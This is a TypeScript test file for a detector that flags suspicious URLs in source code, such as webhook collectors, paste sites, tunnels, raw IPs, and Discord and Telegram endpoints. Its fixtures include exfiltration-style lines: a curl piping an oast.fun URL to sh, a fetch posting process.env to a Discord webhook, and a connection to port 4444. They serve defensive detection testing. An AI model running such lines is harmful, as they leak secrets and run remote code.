import { describe, expect, it } from "vitest";
import { classifyUrl, findSuspiciousUrls } from "../../src/analysis/suspicious-url.js";

const DISCORD = "https://discord.com/api/webhooks/1234567890123456789/AbCdEf-GhIjKlMnOpQrStUvWxYz0123456789_abcdefghijklmnopqrstuvwxyz012";
const TELEGRAM = "https://api.telegram.org/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage";

describe("classifyUrl", () => {
  it.each([
    ["https://webhook.site/0b6c3f1e-9a43-4c1f-8f5a-1d2e3f4a5b6c", "webhook-collector", "webhook.site"],
    ["https://eo1a2b3c4d5e6f7.m.pipedream.net", "webhook-collector", "eo1a2b3c4d5e6f7.m.pipedream.net"],
    ["https://pastebin.com/raw/Xy12Ab34", "paste-site", "pastebin.com"],
    ["rentry.co/abc123/raw", "paste-site", "rentry.co"],
    ["http://abc123.dnslog.cn", "oob-interaction", "abc123.dnslog.cn"],
    ["cq5v1k2j3h4g.oast.fun", "oob-interaction", "cq5v1k2j3h4g.oast.fun"],
    ["x.burpcollaborator.net", "oob-interaction", "x.burpcollaborator.net"],
    ["https://7f3a-203-0-113-9.ngrok-free.app/upload", "tunnel", "7f3a-203-0-113-9.ngrok-free.app"],
    ["https://quiet-river-1234.trycloudflare.com", "tunnel", "quiet-river-1234.trycloudflare.com"],
    ["bore.pub:43210", "tunnel", "bore.pub"],
    ["http://45.9.148.108:8080/payload.sh", "raw-ip", "45.9.148.108"],
    ["//185.62.57.60/x", "raw-ip", "185.62.57.60"],
    ["45.9.148.108", "raw-ip", "45.9.148.108"],
    ["23.94.12.5:4444", "raw-ip", "23.94.12.5"],
    ["http://[2a01:4f8:c17:1::1]:8080/", "raw-ip", "[2a01:4f8:c17:1::1]"],
  ])("%s is a %s at %s", (value, kind, host) => {
    expect(classifyUrl(value)).toMatchObject({ kind, host, endpoint: true });
  });

  it("masks the tokens of Discord webhooks and Telegram bots", () => {
    expect(classifyUrl(DISCORD)).toEqual({ kind: "discord-webhook", host: "discord.com", url: "https://discord.com/api/webhooks/1234567890123456789/***", endpoint: true });
    expect(classifyUrl(TELEGRAM)).toEqual({ kind: "telegram-bot", host: "api.telegram.org", url: "https://api.telegram.org/bot6123456789:***/sendMessage", endpoint: true });
    expect(classifyUrl("https://discordapp.com/api/v10/webhooks/1234567890/abcdefghijklmnop")).toMatchObject({ kind: "discord-webhook", endpoint: true });
  });

  it("names the service without an endpoint as such", () => {
    expect(classifyUrl("https://discord.com/api/webhooks/")).toMatchObject({ kind: "discord-webhook", endpoint: false });
    expect(classifyUrl("https://api.telegram.org/bot")).toMatchObject({ kind: "telegram-bot", endpoint: false });
    expect(classifyUrl("api.telegram.org")).toMatchObject({ kind: "telegram-bot", endpoint: false });
    expect(classifyUrl("pastebin.com")).toMatchObject({ kind: "paste-site", endpoint: false });
    expect(classifyUrl("https://webhook.site/")).toMatchObject({ kind: "webhook-collector", endpoint: false });
    expect(classifyUrl("https://pastebin.com/doc_api")).toMatchObject({ endpoint: false });
  });

  it("finds an address inside a longer decoded string", () => {
    expect(classifyUrl("curl -s https://x7k2.oast.fun/$(whoami) | sh")).toMatchObject({ kind: "oob-interaction", host: "x7k2.oast.fun" });
    expect(classifyUrl(`fetch("http://45.9.148.108:8080/c", {method:"POST"})`)).toMatchObject({ kind: "raw-ip" });
  });

  it.each([
    "1.2.3.4", // a version
    "2.5.4.3", // an X.500 object identifier
    "1.3.101.112", // the Ed25519 object identifier
    "10.0.19041.1",
    "http://127.0.0.1:3000",
    "http://0.0.0.0:8080",
    "http://10.1.2.3/",
    "http://192.168.1.1",
    "http://172.20.0.5",
    "http://169.254.169.254/latest/meta-data/",
    "http://100.64.0.1",
    "http://192.0.2.10", // documentation
    "http://203.0.113.7:443",
    "http://224.0.0.251",
    "http://8.8.8.8",
    "1.1.1.1:53",
    "http://1.2.3.4/",
    "http://[::1]:3000",
    "http://[fe80::1]/",
    "http://[fd00::1]/",
    "http://[2001:db8::1]/",
    "http://[::ffff:192.168.0.1]/",
    "http://256.1.1.1/",
    "https://localtunnel.me", // the tunnel client's own default server
    "ngrok.io",
    "https://discord.com/api/v10/users/@me",
    "https://discord.com/invite/abc",
    "https://core.telegram.org/bots/api",
    "https://notpastebin.com/raw/abc",
    "https://pastebin.com.example.org/raw/abc",
    "https://example.com/webhook.site",
    "https://registry.npmjs.org/left-pad",
    "https://smee.io/abc123",
    "hello world",
    "",
  ])("%j is not suspicious", (value) => {
    expect(classifyUrl(value)).toBeUndefined();
  });
});

describe("findSuspiciousUrls", () => {
  it("reports a Discord webhook, masked, at its place", () => {
    const source = `const os = require("os");\nconst hook = "${DISCORD}";\nfetch(hook, { method: "POST", body: JSON.stringify(process.env) });\n`;
    const findings = findSuspiciousUrls(source);
    expect(findings).toEqual([
      {
        rule: "suspicious-url",
        severity: "high",
        message: "A Discord webhook address (discord.com): a common channel for sending stolen data.",
        line: 2,
        column: 14,
        // The snippet is cut to 120 characters of the line, and never shows the token.
        snippet: `const hook = "https://discord.com/api/webhooks/1234567890123456789/***…`,
      },
    ]);
  });

  it("rates each kind", () => {
    const source = [
      `https.get("https://pastebin.com/raw/Xy12Ab34", run);`,
      `post("https://webhook.site/0b6c3f1e-9a43-4c1f-8f5a-1d2e3f4a5b6c", data);`,
      `dns.lookup(\`\${hex}.cq5v1k2j3h4g.oast.fun\`, () => {});`,
      `axios.post("${TELEGRAM}", { text });`,
      `connect("https://quiet-river-1234.trycloudflare.com");`,
      `const c2 = "http://45.9.148.108:8080/x";`,
      `net.connect(4444, "185.62.57.60");`,
    ].join("\n");
    expect(findSuspiciousUrls(source).map((f) => `${f.line} ${f.severity} ${f.message.slice(0, f.message.indexOf(")") + 1)}`)).toEqual([
      "1 high A paste or file-drop site address (pastebin.com)",
      "2 high A request collector address (webhook.site)",
      "3 high An out-of-band interaction server address (cq5v1k2j3h4g.oast.fun)",
      "4 high A Telegram bot API address (api.telegram.org)",
      "5 medium A tunnel address (quiet-river-1234.trycloudflare.com)",
      "6 medium A raw public IP address (45.9.148.108)",
      "7 medium A raw public IP address (185.62.57.60)",
    ]);
  });

  it("counts repeats of the same address in one finding", () => {
    const source = `a("https://webhook.site/abc-123");\nb("https://webhook.site/abc-123");\nc("https://webhook.site/abc-123");\n`;
    const findings = findSuspiciousUrls(source);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.message).toMatch(/; 2 more in this file\.$/);
  });

  it("rates low a service named without an endpoint, as client libraries and block lists do", () => {
    const source = `const API = "https://discord.com/api/webhooks/";\nconst BOT = "https://api.telegram.org/bot";\nconst PASTE_SITES = ["pastebin.com", "hastebin.com"];\n`;
    expect(findSuspiciousUrls(source).map((f) => `${f.line}:${f.column} ${f.severity}`)).toEqual(["1:13 low", "2:13 low", "3:22 low", "3:38 low"]);
  });

  it("ignores documentation links in comments, and rates low an endpoint in one", () => {
    const source = [
      "/**",
      " * Sends to a webhook; test one at https://webhook.site or https://requestbin.com.",
      " * Tunnels: https://ngrok.com/docs, https://localtunnel.me",
      " */",
      "// see https://pastebin.com/faq",
      "foo(); // example: https://webhook.site/0b6c3f1e-9a43",
      "# curl http://45.9.148.108:8080/payload.sh",
    ].join("\n");
    expect(findSuspiciousUrls(source).map((f) => `${f.line} ${f.severity} ${f.message}`)).toEqual([
      "6 low A request collector address (webhook.site) in a comment: a common place to send stolen data.",
      "7 low A raw public IP address (45.9.148.108) in a comment: code that talks to a bare IP address avoids DNS and reputation checks.",
    ]);
  });

  it("does not mistake a string holding `//` for a comment", () => {
    const source = `const sep = " // "; fetch("https://webhook.site/0b6c3f1e-9a43");`;
    expect(findSuspiciousUrls(source)[0]).toMatchObject({ severity: "high" });
  });

  it("stays quiet on ordinary code: versions, OIDs, local addresses, resolvers, look-alike hosts", () => {
    const source = [
      `const version = "1.2.3.4"; const build = "4.0.0.12";`,
      `const OID_CN = "2.5.4.3", OID_RSA = "1.2.840.113549.1.1.1";`,
      `server.listen(3000, "0.0.0.0"); const url = "http://127.0.0.1:" + port;`,
      `const metadata = "http://169.254.169.254/latest/meta-data/";`,
      `dns.setServers(["8.8.8.8", "1.1.1.1:53"]);`,
      `const docs = "https://192.0.2.1/example";`,
      `const api = "https://discord.com/api/v10"; const core = "https://core.telegram.org/bots";`,
      `const smee = "https://smee.io/new"; const lt = "https://localtunnel.me";`,
      `const x = a//1.2.3.4\n;`,
      `const ua = "Mozilla/5.0 Chrome/120.0.6099.109 Safari/537.36";`,
      `const OID_EDDSA = '1.3.101.112';`,
      ` * address.to4().correctForm(); // '24.37.191.17'`,
      `// http://45.9.148.108 is an example in a comment, but a URL to an IP is still an endpoint`,
    ].join("\n");
    expect(findSuspiciousUrls(source).map((f) => `${f.line} ${f.severity}`)).toEqual(["14 low"]);
  });

  it("stays fast on a large file", () => {
    const chunk = `function f(a, b) { return fetch("https://example.com/api/" + a, { body: b }) // https://github.com/x/y\n} var v = "1.2.3"; if (a / 2) x = /ab+c/;\n`;
    const source = chunk.repeat(80_000) + `post("https://webhook.site/abc-123");\n`;
    const started = performance.now();
    const findings = findSuspiciousUrls(source);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(findings).toHaveLength(1);
  });
});
